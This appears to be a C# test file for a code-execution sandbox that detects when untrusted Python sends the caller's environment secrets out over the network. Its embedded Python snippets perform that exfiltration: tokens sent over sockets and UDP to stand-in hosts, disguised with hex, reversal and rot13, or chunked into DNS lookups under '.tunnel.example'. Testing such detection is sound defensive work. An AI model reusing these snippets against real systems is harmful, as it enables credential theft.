using InterpreterGuard.Containment.Tests.Hosting;

namespace InterpreterGuard.Containment.Tests.Network;

/// <summary>What the caller gave the code goes out: as it is, that is what it was given for; in disguise it does not arrive. Everything goes to listeners of ours on this machine, or into a sinkhole.</summary>
[Collection(BrokerCollection.Name)]
[Trait("needs", "docker")]
public sealed class SecretFlowTests(BrokerHost broker)
{
    private const string Token = "live4Qm9ZtX2vKc7LwPq1Rb8";

    private static readonly Dictionary<string, string> Environment = new(StringComparer.Ordinal)
    {
        ["PAYMENTS_TOKEN"] = Token, ["STORAGE_KEY"] = "Zx81mPwq04LtRkVb77NhYc3d", ["MAIL_PASSWORD"] = "orchard-Tractor-9-velvet-Gate", ["REGION"] = "the-north-of-the-south-4711",
    };

    [Theory]
    [InlineData("os.environ['PAYMENTS_TOKEN']")]
    [InlineData("base64.b64encode(b'user:' + os.environ['PAYMENTS_TOKEN'].encode()).decode()")]
    public async Task Who_signs_in_is_recorded_and_let_through(string written)
    {
        var answer = await RunAsync(BrokerHost.Open, $$"""
            import base64, os, urllib.request
            for _ in range(3):
                asked = urllib.request.Request("http://service.test/bytes/5", headers={"Authorization": "Bearer " + {{written}}, "X-Region": os.environ["REGION"]})
                print(len(urllib.request.urlopen(asked, timeout=5).read()))
            """);

        Assert.True(answer.Status == "completed", $"{answer}");
        Assert.Equal("5\n5\n5\n", answer.Stdout);
        var seen = Assert.Single(await SeenAsync(answer));
        Assert.Equal(("PAYMENTS_TOKEN", "flow", "service.test"), (seen.Text("variable"), seen.Text("channel"), seen.Text("name")));
        Assert.DoesNotContain(Token, seen.GetRawText(), StringComparison.Ordinal);
        Assert.Equal(["IG6007"], RulesOf(answer));
        Assert.Null(answer.IncidentId);
    }

    [Theory]
    [InlineData("token.encode().hex()", "hex")]
    [InlineData("token[::-1]", "reversed")]
    public async Task One_in_disguise_does_not_arrive(string written, string encoding)
    {
        var before = broker.Http.BytesReceived;

        var answer = await RunAsync(BrokerHost.Open, $$"""
            import os, socket
            token = os.environ["PAYMENTS_TOKEN"]
            s = socket.create_connection(("service.test", 80))
            try:
                s.sendall(b"GET /?q=" + ({{written}}).encode() + b" HTTP/1.1\r\nHost: service.test\r\n\r\n")
                print(s.recv(100))
            except OSError as problem:
                print(type(problem).__name__)
            """);

        Assert.True(answer.Status == "completed", $"{answer}");
        Assert.Equal(before, broker.Http.BytesReceived);
        Assert.Equal(encoding, Assert.Single(await SeenAsync(answer)).Text("encoding"));
        var incident = await broker.Host.IncidentAsync(answer.Id);
        Assert.Equal("high", incident!.Value.Text("severity"));
        Assert.StartsWith($"Secret of the caller sent in disguise: the variable PAYMENTS_TOKEN left through a connection to service.test port 80, written as {encoding}", incident.Value.Text("summary"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Three_at_one_place_alert()
    {
        var answer = await RunAsync(BrokerHost.Hole, """
            import os, socket
            for name in ("PAYMENTS_TOKEN", "STORAGE_KEY", "MAIL_PASSWORD"):
                with socket.create_connection(("192.0.2.7", 9000)) as s:
                    s.sendall(os.environ[name].encode())
            """);

        Assert.Equal([1, 2, 3], (await SeenAsync(answer)).Select(fact => fact.GetProperty("variables").GetInt32()).Order());
        Assert.Equal(["IG6006", "IG6007"], RulesOf(answer).Order(StringComparer.Ordinal));
        Assert.NotNull(answer.IncidentId);
    }

    // However the code came by it: here by its standard input, so that screening has nothing to say.
    [Theory]
    [InlineData("[token]")]
    [InlineData("[token[at:at + 8] + '.tunnel.example' for at in range(0, len(token), 8)]")]
    [InlineData("[token.encode().hex() + '.tunnel.example'] * 2")]
    public async Task One_in_names_is_not_answered(string names)
    {
        var answer = await RunAsync(BrokerHost.Hole, $$"""
            import socket
            token = input()
            for name in {{names}}:
                try:
                    socket.getaddrinfo(name, 80)
                    print("answered")
                except OSError as problem:
                    print(problem.errno)
            """, Token + "\n");

        Assert.True(answer.Stdout.EndsWith("-2\n", StringComparison.Ordinal), $"{answer}");
        var seen = await SeenAsync(answer);
        Assert.NotEmpty(seen);
        Assert.All(seen, fact => Assert.Equal("lookup", fact.Text("channel")));
        Assert.All(seen, fact => Assert.DoesNotContain(Token, fact.GetRawText(), StringComparison.OrdinalIgnoreCase));
        Assert.Contains("IG6005", RulesOf(answer));
    }

    [Fact]
    public async Task What_an_earlier_cell_was_given_is_looked_for_in_later_ones()
    {
        await using var session = await SessionClient.OpenAsync(broker.Host, "python", new { profile = BrokerHost.Hole });
        await session.RunAsync("import os, socket", env: Environment, stop: TestContext.Current.CancellationToken);

        var answer = await session.RunAsync("with socket.create_connection(('192.0.2.7', 9000)) as s:\n    s.sendall(os.environ['PAYMENTS_TOKEN'][::-1].encode())", stop: TestContext.Current.CancellationToken);

        Assert.Equal("reversed", Assert.Single(await SeenAsync(answer)).Text("encoding"));
    }

    [Fact]
    public async Task What_a_later_cell_says_through_an_earlier_ones_connection_is_its_own()
    {
        await using var session = await SessionClient.OpenAsync(broker.Host, "python", new { profile = BrokerHost.Hole });
        var first = await session.RunAsync("import os, socket\ns = socket.create_connection(('192.0.2.7', 9000))\ns.sendall(b'hello')", stop: TestContext.Current.CancellationToken);

        var second = await session.RunAsync("s.sendall(os.environ['PAYMENTS_TOKEN'][::-1].encode())", env: Environment, stop: TestContext.Current.CancellationToken);
        var third = await session.RunAsync("print('done')", stop: TestContext.Current.CancellationToken);

        Assert.Equal("reversed", Assert.Single(await SeenAsync(second)).Text("encoding"));
        Assert.Equal(["IG6005"], RulesOf(second));
        Assert.NotNull(second.IncidentId);
        Assert.Empty(RulesOf(first).Concat(RulesOf(third)));
        Assert.Equal("5", Assert.Single(await Flows.AtAsync(broker.Host, first, "first_bytes")).Text("bytes_up"));
    }

    [Fact]
    public async Task A_cell_that_ends_at_once_has_said_what_it_said()
    {
        await using var session = await SessionClient.OpenAsync(broker.Host, "python", new { profile = BrokerHost.Hole });
        await session.RunAsync("import os, socket\nstream = socket.create_connection(('192.0.2.8', 4001))", env: Environment, stop: TestContext.Current.CancellationToken);

        for (var port = 4000; port < 4005; port++)
        {
            var datagram = await session.RunAsync($"""
                datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                datagrams.connect(("192.0.2.8", {port}))
                _ = datagrams.send(os.environ["STORAGE_KEY"].encode().hex().encode())
                """, stop: TestContext.Current.CancellationToken);
            Assert.Single(await SeenAsync(datagram));
        }

        var sent = await session.RunAsync("stream.sendall(b'x' * 200_000 + os.environ['MAIL_PASSWORD'][::-1].encode())", stop: TestContext.Current.CancellationToken);
        Assert.Single(await SeenAsync(sent));
    }

    [Fact]
    public async Task A_datagram_is_looked_at_as_well()
    {
        var answer = await RunAsync(BrokerHost.Hole, """
            import codecs, os, socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(codecs.encode(os.environ["PAYMENTS_TOKEN"], "rot13").encode(), ("192.0.2.9", 5005))
            """);

        Assert.Equal("rot13", Assert.Single(await SeenAsync(answer)).Text("encoding"));
        Assert.Contains("IG6005", RulesOf(answer));
    }

    private Task<Answer> RunAsync(string profile, string code, string? stdin = null) => broker.Host.RunAsync(Submission.Python(code) with { Profile = profile, Stdin = stdin, Env = Environment });

    private static IEnumerable<string> RulesOf(Answer answer) => answer.Detections.Select(detection => detection.Text("rule")).Where(rule => rule.StartsWith("IG600", StringComparison.Ordinal)).Distinct(StringComparer.Ordinal);

    private Task<IReadOnlyList<System.Text.Json.JsonElement>> SeenAsync(Answer answer) => Flows.FactsAsync(broker.Host, answer, "secret.sent");
}
